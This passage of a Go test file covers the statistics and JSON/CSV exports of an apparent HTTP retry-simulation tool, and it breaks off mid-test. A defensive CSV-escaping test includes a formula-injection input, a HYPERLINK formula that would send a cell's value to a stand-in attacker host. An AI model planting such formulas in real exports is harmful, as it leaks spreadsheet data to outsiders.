package fleet

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"retrylab/core"
)

var t0 = time.Date(2026, time.November, 29, 10, 0, 0, 0, time.UTC)

func at(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }

func attempt(w, j, n, atMS, intendedMS int) Record {
	return Record{Worker: w, Job: j, Event: core.Event{Kind: core.EventAttempt, At: at(atMS), Attempt: n, Intended: at(intendedMS)}}
}

func outcome(w, j, n, atMS int, a Attempt) Record {
	return Record{Worker: w, Job: j, Event: core.Event{Kind: core.EventOutcome, At: at(atMS), Attempt: n, Outcome: a.Outcome()}, Attempt: &a}
}

func wait(w, j, n, atMS int, d time.Duration, reason core.Reason) Record {
	return Record{Worker: w, Job: j, Event: core.Event{Kind: core.EventWait, At: at(atMS), Attempt: n, Wait: d, Reason: reason}}
}

func done(w, j, n, atMS int, err error) Record {
	return Record{Worker: w, Job: j, Event: core.Event{Kind: core.EventDone, At: at(atMS), Attempt: n, Err: err}}
}

// handMade is a small run:
//
//	w0 j0: 429 (Retry-After 1) → waits 1 s → sent 2 ms late, and fetch()
//	       started 3 ms after that (handoff) → 200. Success.
//	w1 j0: times out → waits 200 ms → 500. Exhausted.
//	w1 j1: aborted by Stop. Cancelled.
//	w2 j0: 503 (handed to fetch() after 4 ms, queued 30 ms in the browser)
//	       → waits → second attempt in flight (its lateness is not known yet).
func handMade() []Record {
	limited := http.Header{"Retry-After": {"1"}, "X-Ratelimit-Remaining": {"0"}}
	return []Record{
		attempt(0, 0, 1, 0, 0),
		attempt(1, 0, 1, 10, 10),
		attempt(2, 0, 1, 20, 20),
		outcome(0, 0, 1, 50, Attempt{Status: 429, Header: limited, ServerSeq: 11, ServerAt: at(1)}),
		wait(0, 0, 2, 50, time.Second, core.ReasonRetryAfter),
		outcome(2, 0, 1, 70, Attempt{Status: 503, Queued: 30 * time.Millisecond, Handoff: 4 * time.Millisecond, Pickup: 2500 * time.Microsecond, Measured: MeasuredQueued | MeasuredHandoff | MeasuredPickup, Redirected: "http://api.example/v2/limited"}),
		wait(2, 0, 2, 70, 230*time.Millisecond, core.ReasonBackoff),
		attempt(2, 0, 2, 300, 300),
		outcome(1, 0, 1, 510, Attempt{Err: fmt.Errorf("%w after 500ms", ErrTimeout)}),
		wait(1, 0, 2, 510, 200*time.Millisecond, core.ReasonBackoff),
		attempt(1, 0, 2, 710, 710),
		outcome(1, 0, 2, 760, Attempt{Status: 500}),
		done(1, 0, 2, 760, &core.StopError{Cause: core.ErrExhausted, Attempts: 2, Last: &core.StatusError{Status: 500}}),
		attempt(1, 1, 1, 800, 800),
		outcome(1, 1, 1, 900, Attempt{Err: context.Canceled}),
		done(1, 1, 1, 900, &core.StopError{Cause: core.ErrCancelled, Attempts: 1, Context: context.Canceled}),
		attempt(0, 0, 2, 1052, 1050),
		outcome(0, 0, 2, 1100, Attempt{Status: 200, ServerSeq: 12, ServerAt: at(1060), Handoff: 3 * time.Millisecond, Measured: MeasuredHandoff}),
		done(0, 0, 2, 1100, nil),
	}
}

func TestStatsOfHandMadeRecords(t *testing.T) {
	got := StatsOf(t0, handMade())
	want := Stats{
		Requests: 7, FirstTries: 4, Retries: 3,
		OK: 1, Limited: 2, Failed: 1, Timeouts: 1, Aborted: 1, InFlight: 1,
		Jobs: 3, Successes: 1, GiveUps: 2, Cancelled: 1,
		Causes:        map[string]int{"exhausted": 1, "cancelled": 1},
		Amplification: 1.75, WastedPerSuccess: 5, // the 2 limited, failed, timeout and aborted: not w2's attempt in flight
		PeakJobs:      3, // w0 j0, w1 j0 and w2 j0 from 20 ms (w1 j1 starts after w1 j0 ended)
		PeakRPS:       6, // sends at 0, 10, 20, 300, 710, 800 ms lie within one second
		CompletionP50: 750 * time.Millisecond, CompletionP99: 1100 * time.Millisecond, CompletionMax: 1100 * time.Millisecond,
		Drain:       1100 * time.Millisecond,
		LatenessP50: 0, LatenessP99: 5 * time.Millisecond, // 0, 0, 4, 0, 0 and 2+3 ms: the six attempts with an outcome
		QueuedP50: 30 * time.Millisecond, QueuedP99: 30 * time.Millisecond, QueuedN: 1, CompletionN: 2, LatenessN: 6,
		PickupP99: 2500 * time.Microsecond, PickupMax: 2500 * time.Microsecond, PickupN: 1, // w2's 503, the one answer that measured it
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("StatsOf\n got %+v\nwant %+v", got, want)
	}
	if z := StatsOf(t0, nil); !reflect.DeepEqual(z, Stats{}) {
		t.Errorf("StatsOf(nil) = %+v", z)
	}
}

// Wasted per success counts the attempts answered without success: one
// still in flight may yet succeed. It counted them, so a live run's first
// success showed the rest of the fleet's first wave, still waiting for its
// answers, as wasted (40 workers: 39 per success), and the number fell as
// the answers came in.
// TestPeakJobsCountsFromDueTimes: jobs at once counts each job from when it
// was due to its end, whatever the order its records came in: it had
// counted a job from its first record, in record order, and under load
// both told fewer jobs at once than there were.
func TestPeakJobsCountsFromDueTimes(t *testing.T) {
	ok := Attempt{Status: 200}
	for _, tc := range []struct {
		name string
		recs []Record
		want int
	}{
		{"one job", []Record{attempt(0, 0, 1, 0, 0), outcome(0, 0, 1, 50, ok), done(0, 0, 1, 50, nil)}, 1},
		{"one after the other", []Record{
			attempt(0, 0, 1, 0, 0), done(0, 0, 1, 100, nil),
			attempt(0, 1, 1, 100, 100), done(0, 1, 1, 200, nil), // due as the last ended: not at once
		}, 1},
		{"started late, due earlier", []Record{
			attempt(0, 0, 1, 0, 0), done(0, 0, 1, 100, nil),
			attempt(1, 0, 1, 150, 50), done(1, 0, 1, 200, nil), // due at 50, while w0's job ran
		}, 2},
		{"recorded out of order", []Record{
			attempt(0, 0, 1, 0, 0), done(0, 0, 1, 100, nil),
			attempt(1, 0, 1, 60, 60), done(1, 0, 1, 200, nil), // w1's first record came after w0's end
		}, 2},
		{"in progress to the end", []Record{
			attempt(0, 0, 1, 0, 0),
			attempt(1, 0, 1, 500, 500), done(1, 0, 1, 600, nil),
			attempt(2, 0, 1, 700, 700),
		}, 2},
		// w1's job was stopped the instant it was due, while w0's ran.
		{"a job with only its end", []Record{attempt(0, 0, 1, 0, 0), done(1, 0, 0, 10, errors.New("cancelled"))}, 2},
		// Every job was stopped at the run's start (sim -max-attempts 1):
		// it said "2 gave up; at most 0 at once".
		{"all stopped as they were due", []Record{
			attempt(0, 0, 1, 0, 0), outcome(0, 0, 1, 0, Attempt{Err: context.Canceled}), done(0, 0, 1, 0, errors.New("cancelled")),
			done(1, 0, 0, 0, errors.New("cancelled")),
		}, 2},
		// A worker's jobs answered in no time follow one another at one
		// instant: 2 workers are 2 jobs at once (the +1 ns each such job
		// was given made them 10; a review).
		{"answered in no time", slices.Concat(
			zeroLatencyJobs(0, 5, 0), zeroLatencyJobs(1, 5, 0),
		), 2},
		{"answered in no time, beside one in progress", slices.Concat(
			[]Record{attempt(2, 0, 1, 0, 0)}, zeroLatencyJobs(0, 3, 0),
		), 2},
		{"stopped as its next was due", []Record{
			attempt(0, 0, 1, 0, 0), done(0, 0, 1, 100, nil),
			done(0, 1, 0, 100, errors.New("cancelled")), // due as the last ended: not at once
		}, 1},
	} {
		if got := StatsOf(t0, tc.recs).PeakJobs; got != tc.want {
			t.Errorf("%s: %d jobs at once, want %d", tc.name, got, tc.want)
		}
	}
}

func TestWastedPerSuccessLeavesOutInFlight(t *testing.T) {
	for _, c := range []struct {
		name string
		recs []Record
		want float64
	}{
		{"first success of a wave", []Record{
			attempt(0, 0, 1, 0, 0), attempt(1, 0, 1, 0, 0), attempt(2, 0, 1, 0, 0), attempt(3, 0, 1, 0, 0),
			outcome(0, 0, 1, 50, Attempt{Status: 200}), done(0, 0, 1, 50, nil),
		}, 0},
		{"one 429 answered, one in flight", []Record{
			attempt(0, 0, 1, 0, 0), attempt(1, 0, 1, 0, 0), attempt(2, 0, 1, 0, 0),
			outcome(0, 0, 1, 50, Attempt{Status: 200}), done(0, 0, 1, 50, nil),
			outcome(1, 0, 1, 60, Attempt{Status: 429}),
		}, 1},
		{"no success", []Record{attempt(0, 0, 1, 0, 0), outcome(0, 0, 1, 50, Attempt{Status: 500})}, 0},
	} {
		if got := StatsOf(t0, c.recs).WastedPerSuccess; got != c.want {
			t.Errorf("%s: wasted per success %v, want %v", c.name, got, c.want)
		}
	}
}

// A job Stop cut short did not complete: it counts among the jobs that
// ended (Jobs, GiveUps, Cancelled) but not in the completion times, which
// would otherwise say when Stop was pressed.
func TestCompletionLeavesOutStoppedJobs(t *testing.T) {
	cancelled := &core.StopError{Cause: core.ErrCancelled, Attempts: 1, Context: context.Canceled}
	exhausted := &core.StopError{Cause: core.ErrExhausted, Attempts: 1, Last: &core.StatusError{Status: 500}}
	for _, c := range []struct {
		name      string
		ends      []error // job j ends at (j+1) × 100 ms
		jobs, cnc int
		max       time.Duration
	}{
		{"succeeded", []error{nil}, 1, 0, 100 * time.Millisecond},
		{"succeeded, then one stopped", []error{nil, cancelled}, 2, 1, 100 * time.Millisecond},
		{"gave up", []error{nil, exhausted}, 2, 0, 200 * time.Millisecond},
		{"all stopped", []error{cancelled, cancelled}, 2, 2, 0},
	} {
		var recs []Record
		for j, err := range c.ends {
			recs = append(recs, attempt(j, 0, 1, 0, 0), done(j, 0, 1, (j+1)*100, err))
		}
		st := StatsOf(t0, recs)
		if st.Jobs != c.jobs || st.Cancelled != c.cnc || st.CompletionMax != c.max {
			t.Errorf("%s: jobs %d, cancelled %d, completion max %v; want %d, %d, %v", c.name, st.Jobs, st.Cancelled, st.CompletionMax, c.jobs, c.cnc, c.max)
		}
	}
}

func TestDispersion(t *testing.T) {
	// Retries at 300, 710 and 1052 ms: counts [2, 1] per 500 ms;
	// mean 1.5, variance 0.25.
	if got, want := Dispersion(handMade(), 500*time.Millisecond), 0.25/1.5; math.Abs(got-want) > 1e-12 {
		t.Errorf("Dispersion = %v, want %v", got, want)
	}
	retries := func(ms ...int) []Record {
		var recs []Record
		for i, m := range ms {
			recs = append(recs, attempt(i, 0, 2, m, m))
		}
		return recs
	}
	// Evenly paced: one per slice.
	if got := Dispersion(retries(0, 100, 200, 300, 400), 100*time.Millisecond); got != 0 {
		t.Errorf("evenly paced: %v, want 0", got)
	}
	// A herd of 10 at 0 and at 1 s: 11 slices, counts 10, 0 ×9, 10.
	var herd []int
	for range 10 {
		herd = append(herd, 0, 1000)
	}
	mean := 20.0 / 11
	want := (2*(10-mean)*(10-mean) + 9*mean*mean) / 11 / mean
	if got := Dispersion(retries(herd...), 100*time.Millisecond); math.Abs(got-want) > 1e-12 || got < 5 {
		t.Errorf("herd: %v, want %v", got, want)
	}
	// Every retry in one slice, the most synchronised run there is: their
	// number (it was 0, which reads as retries evenly paced), above what
	// as many retries over two slices give, however bunched.
	for _, c := range []struct {
		ms   []int
		want float64
		one  bool
	}{
		{[]int{5, 7}, 2, true},
		{[]int{42}, 1, true},
		{[]int{0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 99}, 20, true},
		{[]int{0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 100}, 8.1, false}, // counts 19 and 1: variance 81, mean 10
	} {
		got := Dispersion(retries(c.ms...), 100*time.Millisecond)
		if math.Abs(got-c.want) > 1e-9 || DispersionOneSlice(got, len(c.ms)) != c.one {
			t.Errorf("retries at %v ms: %v (one slice %v), want %v (%v)", c.ms, got, DispersionOneSlice(got, len(c.ms)), c.want, c.one)
		}
	}
	if got := Dispersion(nil, time.Second); got != 0 {
		t.Errorf("no retries: %v", got)
	}
}

// Retries spread over centuries (an uncapped backoff simulated to the end
// of virtual time: ?fail500=100&cap=0s&attempts=1000) are measured without
// a count per empty slice: Dispersion made a slice of 5·10^10 counts for
// them, and Simulate's numbers and the JSON export ran the page (and a
// native program) out of memory. Over two days, past the slices counted
// one by one, the figure is the one counted slice by slice.
func TestDispersionOverCenturies(t *testing.T) {
	s := Default()
	s.Workers, s.Jobs, s.Mock.Fail500, s.Cap, s.MaxAttempts = 1, 1, 100, 0, 1000
	rec := Simulate(s)
	if rec.Err != nil {
		t.Fatal(rec.Err)
	}
	recs := rec.Records()
	if span := recs[len(recs)-1].Event.At.Sub(rec.Start); span < 100*365*24*time.Hour {
		t.Fatalf("the run spans %v, not centuries", span)
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	d := Dispersion(recs, DispersionSlice)
	acc := NewStatsAcc(rec.Start, len(recs))
	for i := range recs {
		acc.Add(&recs[i])
	}
	da := acc.Dispersion(DispersionSlice)
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 1<<20 {
		t.Errorf("Dispersion allocated %d bytes for %d records", grew, len(recs))
	}
	// A retry alone in its slice, among billions of empty ones: about 1.
	if d != da || math.Abs(d-1) > 1e-6 {
		t.Errorf("Dispersion = %v, StatsAcc's %v: want one figure, about 1 (each retry alone in its slice)", d, da)
	}
	if err := rec.JSON(io.Discard); err != nil {
		t.Errorf("JSON: %v", err)
	}

	// Two days of 100 ms slices, counted both ways.
	day := 24 * time.Hour
	ts := []time.Duration{0, 0, 50 * time.Millisecond, 150 * time.Millisecond, day, day + 10*time.Millisecond, 2*day + time.Second}
	n := int(ts[len(ts)-1]/DispersionSlice) + 1
	if n <= len(ts)+maxEmptySlices {
		t.Fatalf("%d slices: counted one by one", n)
	}
	counts := make([]float64, n)
	for _, x := range ts {
		counts[int(x/DispersionSlice)]++
	}
	mean := float64(len(ts)) / float64(n)
	var ss float64
	for _, c := range counts {
		ss += (c - mean) * (c - mean)
	}
	want := ss / float64(n) / mean
	if got := dispersionSorted(ts, DispersionSlice); math.Abs(got-want) > 1e-9*want {
		t.Errorf("over two days: %v, want %v", got, want)
	}
}

func TestClassifyAndCause(t *testing.T) {
	classes := []struct {
		o    core.Outcome
		want Class
	}{
		{core.Outcome{Status: 200}, ClassOK},
		{core.Outcome{Status: 304}, ClassOK},
		{core.Outcome{Status: 429}, ClassLimited},
		{core.Outcome{Status: 503}, ClassLimited},
		{core.Outcome{Status: 500}, ClassFailed},
		{core.Outcome{Status: 404}, ClassFailed},
		{core.Outcome{Err: errors.New("connection reset")}, ClassFailed},
		{core.Outcome{Err: ErrTimeout}, ClassTimeout},
		{core.Outcome{Err: fmt.Errorf("get: %w", context.DeadlineExceeded)}, ClassTimeout},
		{core.Outcome{Err: fmt.Errorf("get: %w", context.Canceled)}, ClassAborted},
	}
	for _, c := range classes {
		if got := Classify(c.o); got != c.want {
			t.Errorf("Classify(%+v) = %v, want %v", c.o, got, c.want)
		}
	}
	causes := map[string]error{
		"success":       nil,
		"exhausted":     &core.StopError{Cause: core.ErrExhausted},
		"max-elapsed":   &core.StopError{Cause: core.ErrMaxElapsed},
		"permanent":     &core.StopError{Cause: core.ErrPermanent},
		"above-ceiling": &core.StopError{Cause: core.ErrAboveCeiling},
		"budget-empty":  &core.StopError{Cause: core.ErrBudgetEmpty},
		"horizon":       &core.StopError{Cause: core.ErrHorizon},
		"cancelled":     &core.StopError{Cause: core.ErrCancelled, Last: &core.StatusError{Status: 429}},
		"invalid":       errors.New("core: backoff base 0s: must be between 1ms and 1h"),
	}
	for want, err := range causes {
		if got := Cause(err); got != want {
			t.Errorf("Cause(%v) = %q, want %q", err, got, want)
		}
	}
}

func TestExportJSON(t *testing.T) {
	rec := NewRecording(Default(), t0, true)
	rec.Append(handMade()...)
	var buf bytes.Buffer
	if err := rec.JSON(&buf); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema    string            `json:"schema"`
		Start     time.Time         `json:"start"`
		Simulated bool              `json:"simulated"`
		Scenario  map[string]string `json:"scenario"`
		Stats     map[string]any    `json:"stats"`
		Events    []map[string]any  `json:"events"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	// The head's last key closes on its line: "}\n,\n" left a comma alone.
	if !strings.Contains(buf.String(), "\n \"faults\": [],\n \"gaps\": [],\n \"events\": [\n  {") {
		t.Errorf("the head does not lead into the events as JSON is indented:\n%s", buf.String()[:min(buf.Len(), 3000)])
	}
	if doc.Schema != Schema || !doc.Start.Equal(t0) || !doc.Simulated || doc.Scenario["workers"] != "50" || len(doc.Scenario) != len(Fields) {
		t.Errorf("header: %q %v %v %v", doc.Schema, doc.Start, doc.Simulated, doc.Scenario)
	}
	if doc.Stats["requests"] != 7.0 || doc.Stats["completion_p50_ms"] != 750.0 || doc.Stats["limited"] != 2.0 {
		t.Errorf("stats: %v", doc.Stats)
	}
	if got, want := doc.Stats["dispersion"], Dispersion(handMade(), DispersionSlice); got != want || want == 0 {
		t.Errorf("stats: dispersion %v, want %v (what the page shows)", got, want)
	}
	if len(doc.Events) != len(handMade()) {
		t.Fatalf("%d events", len(doc.Events))
	}
	check := func(i int, want map[string]any) {
		t.Helper()
		want["simulated"] = true // the recording was made simulated
		if !reflect.DeepEqual(doc.Events[i], want) {
			t.Errorf("event %d\n got %v\nwant %v", i, doc.Events[i], want)
		}
	}
	check(3, map[string]any{"t_ms": 50.0, "kind": "outcome", "worker": 0.0, "job": 0.0, "attempt": 1.0, "status": 429.0, "class": "limited",
		"retry_after": "1", "ratelimit": map[string]any{"X-RateLimit-Remaining": "0"}, "server_seq": 11.0, "server_ms": 1.0})
	check(4, map[string]any{"t_ms": 50.0, "kind": "wait", "worker": 0.0, "job": 0.0, "attempt": 2.0, "wait_ms": 1000.0, "reason": "retry-after"})
	check(5, map[string]any{"t_ms": 70.0, "kind": "outcome", "worker": 2.0, "job": 0.0, "attempt": 1.0, "status": 503.0, "class": "limited",
		"queued_ms": 30.0, "handoff_ms": 4.0, "pickup_ms": 2.5, "redirected": "http://api.example/v2/limited"})
	check(12, map[string]any{"t_ms": 760.0, "kind": "done", "worker": 1.0, "job": 0.0, "attempt": 2.0, "cause": "exhausted",
		"error": "core: attempts exhausted after 2 attempts: http status 500"})
	check(16, map[string]any{"t_ms": 1052.0, "kind": "attempt", "worker": 0.0, "job": 0.0, "attempt": 2.0, "intended_ms": 1050.0})
}

// The JSON's stats are the documented ones (StatsColumns, the README's
// table), in their order, and what the run did not measure is null, as
// the page says "not measured": a simulation's send lateness and browser
// queueing, the queueing of a run whose answers told none (a native run, a
// custom target without Timing-Allow-Origin), the lateness of a run with
// no outcome yet, and the completion times of a run in which no job
// completed. They were 0, a measurement of no delay at all.
func TestExportStatsAreDocumented(t *testing.T) {
	if keys, documented := jsonKeys[exportStats](), keyNames(StatsColumns); !reflect.DeepEqual(keys, documented) {
		t.Errorf("the JSON's stats are\n%q, StatsColumns documents\n%q", keys, documented)
	}
	if md := StatsMarkdown(); strings.Count(md, "\n") != len(StatsColumns)+2 || !strings.Contains(md, "| `queued_p99_ms` | ") {
		t.Errorf("StatsMarkdown:\n%s", md)
	}

	// untimed: no answer told its queueing; atOnce: the one that did
	// told 0, no wait at all (it was null, as if not measured).
	untimed, atOnce := handMade(), handMade()
	for i := range untimed {
		if a := untimed[i].Attempt; a != nil && a.Measured&MeasuredQueued != 0 {
			c, z := *a, *a
			c.Queued, c.Measured = 0, a.Measured&^MeasuredQueued
			z.Queued = 0
			untimed[i].Attempt, atOnce[i].Attempt = &c, &z
		}
	}
	for _, c := range []struct {
		name      string
		simulated bool
		recs      []Record
		want      map[string]any
	}{
		{"live", false, handMade(), map[string]any{"lateness_p50_ms": 0.0, "lateness_p99_ms": 5.0, "queued_p50_ms": 30.0, "queued_p99_ms": 30.0}},
		{"live, no answer told its queueing", false, untimed, map[string]any{"lateness_p50_ms": 0.0, "lateness_p99_ms": 5.0, "queued_p50_ms": nil, "queued_p99_ms": nil}},
		{"live, an answer sent at once", false, atOnce, map[string]any{"lateness_p50_ms": 0.0, "lateness_p99_ms": 5.0, "queued_p50_ms": 0.0, "queued_p99_ms": 0.0}},
		{"simulated", true, handMade(), map[string]any{"lateness_p50_ms": nil, "lateness_p99_ms": nil, "queued_p50_ms": nil, "queued_p99_ms": nil}},
		{"live", false, handMade(), map[string]any{"completion_p50_ms": 750.0, "completion_p99_ms": 1100.0, "completion_max_ms": 1100.0}},
		// Stop before any job ended but the one it cancelled: no job
		// completed (it read "completion p50 0 µs").
		{"live, every job that ended cancelled", false, []Record{attempt(1, 1, 1, 800, 800), outcome(1, 1, 1, 900, Attempt{Err: context.Canceled}),
			done(1, 1, 1, 900, &core.StopError{Cause: core.ErrCancelled, Attempts: 1, Context: context.Canceled})},
			map[string]any{"completion_p50_ms": nil, "completion_p99_ms": nil, "completion_max_ms": nil, "lateness_p99_ms": 0.0}},
		// Written while the first attempts are in flight: no lateness yet.
		{"live, no outcome yet", false, []Record{attempt(0, 0, 1, 0, 0), attempt(1, 0, 1, 10, 10)},
			map[string]any{"completion_p50_ms": nil, "lateness_p50_ms": nil, "lateness_p99_ms": nil, "queued_p99_ms": nil}},
	} {
		rec := NewRecording(Default(), t0, c.simulated)
		rec.Append(c.recs...)
		var buf bytes.Buffer
		if err := rec.JSON(&buf); err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Stats map[string]any `json:"stats"`
		}
		if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		for k, want := range c.want {
			if got, ok := doc.Stats[k]; !ok || got != want {
				t.Errorf("%s: %s is %v (present %v), want %v", c.name, k, got, ok, want)
			}
		}
		documented := len(StatsColumns)
		if _, ok := doc.Stats["causes"]; !ok {
			documented-- // left out when no job gave up
		}
		if len(doc.Stats) != documented {
			t.Errorf("%s: %d stats, %d documented: %v", c.name, len(doc.Stats), documented, doc.Stats)
		}
	}
}

// chunks records the sizes of the writes it is given.
type chunks struct{ sizes []int }

func (c *chunks) Write(p []byte) (int, error) { c.sizes = append(c.sizes, len(p)); return len(p), nil }

// The exports are written in pieces as they are made, so that the page can
// give its thread back between them (ui's exportWriter): the JSON was
// encoded whole, indented whole and written in one piece (900,000 events,
// 168 MB, the page frozen for 15 s). Its events are one to a line.
func TestExportsAreWrittenInPieces(t *testing.T) {
	s := Default()
	s.Workers, s.Jobs = 500, 2
	rec := Simulate(s)
	if rec.Len() < 3000 {
		t.Fatalf("only %d records", rec.Len())
	}
	for name, f := range map[string]func(io.Writer) error{"JSON": rec.JSON, "CSV": rec.CSV} {
		var c chunks
		if err := f(&c); err != nil {
			t.Fatal(err)
		}
		total := 0
		for _, n := range c.sizes {
			total += n
			if n > 64<<10 {
				t.Errorf("%s: a write of %d bytes", name, n)
			}
		}
		if len(c.sizes) < total/(64<<10) {
			t.Errorf("%s: %d bytes in %d writes", name, total, len(c.sizes))
		}
	}
	var buf bytes.Buffer
	if err := rec.JSON(&buf); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(buf.String(), "\n")
	events := 0
	for _, l := range lines {
		if strings.HasPrefix(l, `  {"t_ms":`) {
			events++
		}
	}
	if events != rec.Len() {
		t.Errorf("%d of %d events on a line of their own", events, rec.Len())
	}
}

func TestExportCSV(t *testing.T) {
	rec := NewRecording(Default(), t0, false)
	rec.Append(handMade()...)
	rows := csvRows(t, rec)
	if len(rows) != 1+len(handMade()) {
		t.Fatalf("%d rows", len(rows))
	}
	for i, c := range EventColumns {
		if rows[0][i] != c.Name {
			t.Errorf("header %d = %q, want %q", i, rows[0][i], c.Name)
		}
	}
	want := map[int]string{
		4:  "50,outcome,0,0,1,,429,limited,,1,X-RateLimit-Remaining: 0,,11,1,,,,,false,,,",
		6:  "70,outcome,2,0,1,,503,limited,,,,30,,,,,,,false,4,2.5,http://api.example/v2/limited",
		9:  "510,outcome,1,0,1,,0,timeout,fleet: request timeout after 500ms,,,,,,,,,,false,,,",
		17: "1052,attempt,0,0,2,1050,,,,,,,,,,,,,false,,,",
		19: "1100,done,0,0,2,,,,,,,,,,,,success,,false,,,",
	}
	for i, w := range want {
		if got := strings.Join(rows[i], ","); got != w {
			t.Errorf("row %d\n got %s\nwant %s", i, got, w)
		}
	}
	if md := SchemaMarkdown(); strings.Count(md, "\n") != len(EventColumns)+2 || !strings.Contains(md, "| `server_seq` | outcome |") {
		t.Errorf("SchemaMarkdown:\n%s", md)
	}
}

// zeroLatencyJobs is worker w's n jobs, each attempted and answered 200
// at atMS, in no time.
func zeroLatencyJobs(w, n, atMS int) []Record {
	var recs []Record
	for j := range n {
		recs = append(recs, attempt(w, j, 1, atMS, atMS), outcome(w, j, 1, atMS, Attempt{Status: 200}), done(w, j, 1, atMS, nil))
	}
	return recs
}

// A server's text that is not UTF-8 is written in the CSV as the JSON
// writes it, each bad byte as U+FFFD: the CSV had the bytes as they came,
// and a spreadsheet reading the file as UTF-8 (a review).
func TestCSVCellsAreUTF8(t *testing.T) {
	rec := NewRecording(Default(), t0, false)
	rec.Append(
		attempt(0, 0, 1, 0, 0),
		outcome(0, 0, 1, 50, Attempt{Status: 429, Header: http.Header{"Retry-After": {"1\xff2"}, "X-Ratelimit-Remaining": {"\xc3"}}}),
		outcome(1, 0, 1, 60, Attempt{Err: errors.New("bad \xe2\x82 bytes")}),
	)
	var buf bytes.Buffer
	if err := rec.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	if !utf8.Valid(buf.Bytes()) {
		t.Errorf("the CSV is not UTF-8:\n%q", buf.String())
	}
	for _, want := range []string{",1\uFFFD2,", "X-RateLimit-Remaining: \uFFFD", "bad \uFFFD\uFFFD bytes"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("the CSV lacks %q:\n%s", want, buf.String())
		}
	}
	buf.Reset()
	if err := rec.JSON(&buf); err != nil {
		t.Fatal(err)
	}
	if !utf8.Valid(buf.Bytes()) || !strings.Contains(buf.String(), `"retry_after":"1\ufffd2"`) {
		t.Errorf("the JSON does not write the bad byte as \\ufffd:\n%s", buf.String())
	}
}

// TestCSVCellsAreNotFormulas: a cell of text a server chose that a
// spreadsheet would take as a formula starts with ' in the CSV (a custom
// target's Retry-After of =HYPERLINK(…) was a live link); the JSON keeps
// it as received, and text that starts otherwise is written as it is.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	for _, c := range []struct {
		name, value, want string
	}{
		{"equals", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"plus", "+1+1", "'+1+1"},
		{"minus", "-5", "'-5"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"seconds", "120", "120"},
		{"date", "Wed, 21 Oct 2026 07:28:00 GMT", "Wed, 21 Oct 2026 07:28:00 GMT"},
		{"quote", "'=1", "'=1"},
	} {
		rec := NewRecording(Default(), t0, false)
		rec.Append(
			attempt(0, 0, 1, 0, 0),
			outcome(0, 0, 1, 50, Attempt{Status: 429, Header: http.Header{"Retry-After": {c.value}, "X-Ratelimit-Remaining": {c.value}}, Redirected: c.value}),
			outcome(1, 0, 1, 60, Attempt{Err: errors.New(c.value)}),
		)
		var buf bytes.Buffer
		if err := rec.CSV(&buf); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		col := func(name string) int {
			return slices.IndexFunc(EventColumns, func(e EventColumn) bool { return e.Name == name })
		}
		for _, cell := range []struct {
			row  int
			name string
			want string
		}{
			{2, "retry_after", c.want},
			{2, "ratelimit", "X-RateLimit-Remaining: " + c.value}, // its lines start with the header's name
			{2, "redirected", c.want},
			{3, "error", c.want},
		} {
			if got := rows[cell.row][col(cell.name)]; got != cell.want {
				t.Errorf("%s: the CSV's %s is %q, want %q", c.name, cell.name, got, cell.want)
			}
		}
		var doc struct {
			Events []struct {
				RetryAfter *string `json:"retry_after"`
			} `json:"events"`
		}
		buf.Reset()
		if err := rec.JSON(&buf); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		if len(doc.Events) < 2 || doc.Events[1].RetryAfter == nil || *doc.Events[1].RetryAfter != c.value {
			t.Errorf("%s: the JSON's retry_after is not %q as received", c.name, c.value)
		}
	}
}

// The JSON says what the server was made to do during the run, as the
// server told it (SetFaults: the page's Outage, Halve limit and Burst, the
// scheduled outage), and why the scheduled outage did not start
// (OutageErr). A run in which Outage was pressed had the file of a run
// with the server up. The CSV stays the events alone.
func TestExportTellsTheServersFaults(t *testing.T) {
	rec := NewRecording(Default(), t0, false)
	rec.Append(handMade()...)
	rec.SetFaults([]Fault{
		{Kind: "outage", From: at(100), Until: at(3100)},
		{Kind: "limit", From: at(200), Until: at(1200), Scale: 0.5},
		{Kind: "burst", From: at(250), N: 40},
		{Kind: "outage", From: at(4000), Until: at(4000)}, // ended as it began
	})
	rec.OutageErr = errors.New("POST /mock/outage: the server refused it (503): mock: outages \"10001\": allowed at most 10000 keys in an outage at once; try again when one ends")
	var buf bytes.Buffer
	if err := rec.JSON(&buf); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		OutageError string           `json:"outage_error"`
		Faults      []map[string]any `json:"faults"`
		Events      []map[string]any `json:"events"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	want := []map[string]any{
		{"kind": "outage", "from_ms": 100.0, "until_ms": 3100.0},
		{"kind": "limit", "from_ms": 200.0, "until_ms": 1200.0, "scale": 0.5},
		{"kind": "burst", "from_ms": 250.0, "n": 40.0, "admitted": 0.0},
		{"kind": "outage", "from_ms": 4000.0, "until_ms": 4000.0},
	}
	if !reflect.DeepEqual(doc.Faults, want) {
